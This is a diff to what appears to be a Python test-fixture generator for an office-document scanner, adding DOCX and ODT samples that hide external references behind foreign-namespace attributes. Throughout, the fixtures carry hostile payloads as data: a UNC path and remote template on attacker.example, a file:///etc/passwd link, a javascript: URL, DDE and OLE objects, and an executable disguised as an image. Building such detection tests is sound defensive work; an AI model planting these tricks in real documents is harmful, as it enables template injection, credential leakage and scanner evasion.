@@ -52,6 +52,9 @@ def _docx():
     yield "share without mode.docx", office.docx(rows=[("image", "\\\\attacker.example\\a", False)]), act
     template = office.relationships([("attachedTemplate", "https://attacker.example/a.dotm", True)])
     yield "settings.docx", office.docx(extra={"word/settings.xml": b"<a/>", "word/_rels/settings.xml.rels": template}), act
+    # An attribute of a foreign namespace stands before the one that programs read.
+    masked = template.replace(b"<Relationship ", b'<Relationship xmlns:z="urn:z" z:Type="z/hyperlink" z:Target="https://northgate.example/" ')
+    yield "masked.docx", office.docx(extra={"word/settings.xml": b"<a/>", "word/_rels/settings.xml.rels": masked}), act
     yield "embedded workbook.docx", office.docx(extra={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": office.docx()}), act
     yield "embedded object.docx", office.docx(extra={"word/embeddings/oleObject1.bin": ole.doc()}), act
     yield "object as picture.docx", office.docx(extra={"word/media/image1.emf": ole.doc()}), act
@@ -88,7 +91,7 @@ def _fields():
 
 def _odt():
     act = "active_content"
-    for element in ('draw:plugin xlink:href="a"', "draw:applet", 'draw:floating-frame xlink:href="https://attacker.example/"', "office:dde-source", 'text:section-source xlink:href="a.odt"', "draw:object-ole", "script:event-listener", 'draw:image xlink:href="https://attacker.example/a.png"', 'draw:image xlink:href="file:///etc/passwd"', 'text:a xlink:href="javascript:alert(1)"', 'draw:image xlink:href="//attacker.example/a"', 'draw:image xlink:href="../a"'):
+    for element in ('draw:plugin xlink:href="a"', "draw:applet", 'draw:floating-frame xlink:href="https://attacker.example/"', "office:dde-source", 'text:section-source xlink:href="a.odt"', "draw:object-ole", "script:event-listener", 'draw:image xlink:href="https://attacker.example/a.png"', 'draw:image xlink:href="file:///etc/passwd"', 'text:a xlink:href="javascript:alert(1)"', 'draw:image xlink:href="//attacker.example/a"', 'draw:image xlink:href="../a"', 'draw:image xmlns:z="urn:z" z:href="Pictures/a.png" xlink:href="https://attacker.example/a.png"'):
         yield f"{element.split()[0].replace(':', ' ')}.odt", office.odt(body=f"<text:p><{element}/></text:p>"), act
     yield "object.odt", office.odt(extra={"Object 1": ole.doc()}), act
     yield "program.odt", office.odt(extra={"Pictures/1.png": b"MZ" + bytes(90)}), "hidden_file"
